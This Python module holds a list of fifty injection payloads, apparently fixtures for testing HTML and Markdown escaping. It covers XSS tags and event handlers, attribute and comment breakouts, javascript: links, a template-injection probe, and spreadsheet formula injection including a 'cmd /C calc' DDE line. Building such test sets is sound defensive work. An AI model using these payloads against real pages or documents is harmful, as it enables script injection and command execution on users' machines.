"""Text that would run, load or break out of its place if it were taken for anything but text."""

from __future__ import annotations

RUN = "window.ran=1"
AWAY = "http://away.invalid/x"
"""An address that nothing may ever ask for."""

PAYLOADS = (
    # elements
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script src={AWAY}.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={AWAY}.png>",
    f'<img srcset="{AWAY}.png 1x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><image href='{AWAY}.svg'/></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='{AWAY}'></object>",
    f"<embed src='{AWAY}'>",
    f"<video><source onerror={RUN}></video>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'>",
    f"<style>@import '{AWAY}.css'; body{{background:url({AWAY})}}</style>",
    f"<form action='{AWAY}'><button autofocus>x</button></form>",
    # breaking out of attributes, comments, styles and raw text
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus='",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></noscript><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    "<!--<script>",
    f"]]><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    # links and Markdown
    f'<a href="javascript:{RUN}">x</a>',
    f"[x](javascript:{RUN})",
    f"![x]({AWAY}.png)",
    f"<javascript:{RUN}>",
    # templates, formulas, MathJax, strings of scripts and styles
    "{{7*7}}{% raw %}{{cycler.__init__.__globals__}}",
    f"${{{RUN}}}`+{RUN}+`",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"\\(\\unicode{{<img src=x onerror={RUN}>}}\\)",
    f"');{RUN};('",
    f"';}} @import '{AWAY}.css'; x{{content:'",
    '=HYPERLINK("' + AWAY + '";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""Fifty of them."""
